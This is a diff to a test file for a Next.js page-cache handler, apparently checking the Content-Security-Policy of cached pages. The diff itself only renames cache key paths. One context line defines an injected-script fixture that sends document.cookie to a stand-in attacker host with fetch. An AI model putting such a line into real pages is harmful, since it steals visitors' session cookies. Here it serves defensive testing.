@@ -15,7 +15,7 @@ const { default: PageCache } = await import('@/lib/cache/cache-handler.mjs');
 const FLIGHT = 'self.__next_f.push([1,"text"])';
 const INJECTED = 'fetch("https://evil.example/"+document.cookie)';
 const ROUTE = `/route-cache/APP_PAGE/${'ab'.repeat(32)}/$`;
-const KEY = `${ROUTE}/sites/shop.example/terms`;
+const KEY = `${ROUTE}/sites/shop.example/policies/terms`;
 const hash = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
 
 let folder: string;
@@ -76,7 +76,7 @@ test('a kept page allows plain http only on a site that is on http', async () =>
   const cache = createCache();
   const [https, http] = [page('<p></p>'), page('<p></p>')];
   await cache.set(KEY, https, { kind: 'APP_PAGE' });
-  await cache.set(`${ROUTE}/sites/localhost/terms`, http, { kind: 'APP_PAGE' });
+  await cache.set(`${ROUTE}/sites/localhost/policies/terms`, http, { kind: 'APP_PAGE' });
   expect(policyOf(https)).not.toContain('http:');
   expect(policyOf(http)).toContain('img-src ');
   expect(policyOf(http)).toContain('http:');
